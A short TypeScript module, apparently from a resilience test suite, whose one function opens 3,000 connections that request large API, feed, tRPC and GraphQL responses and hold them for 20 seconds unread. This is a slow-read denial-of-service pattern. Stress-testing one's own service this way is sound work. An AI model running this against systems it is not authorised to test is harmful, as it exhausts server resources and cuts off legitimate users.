import { graphqlPage, trpcPage } from './large-pages.ts'
import { hold, repeatConnections, type Target, toGet, toPost } from './attack-target.ts'

const readers = 3_000
const heldMs = 20_000

/** Three thousand connections request something long and never read it. */
export async function requestAndReadNothing(target: Target): Promise<void> {
  const requests = [
    toGet(target, '/api/v1/todos'),
    toGet(target, '/api/v1/todos?limit=1000'),
    toGet(target, `/api/v1/todos/ical/${target.finishedJob}/result`),
    toGet(target, target.feedPath),
    toGet(target, trpcPage),
    toPost(target, '/graphql', graphqlPage),
  ]
  await repeatConnections(target, readers, requests, async () => {
    target.count('connections')
    await hold(target, heldMs)
  })
}
